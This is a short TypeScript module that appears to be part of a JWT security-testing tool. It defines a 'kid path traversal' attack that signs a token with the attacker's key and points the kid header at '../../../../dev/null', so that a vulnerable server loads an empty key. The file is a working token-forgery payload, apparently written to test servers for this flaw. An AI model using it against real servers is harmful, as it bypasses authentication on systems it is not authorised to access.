import { defineAttack } from '../attack'
import { signedByAttacker } from '../parts'

const path = '../../../../dev/null'

export default defineAttack({
  id: 'kid-path',
  name: 'kid path traversal',
  hopes: 'that the server opens a file by the key’s name, and takes an empty one for the key.',
  scenario: 'kid-path',
  async apply(target) {
    const token = await signedByAttacker(target, () => ({ kid: path }))
    return { token, did: `kid is ${path} now, under an attacker’s signature.` }
  },
})
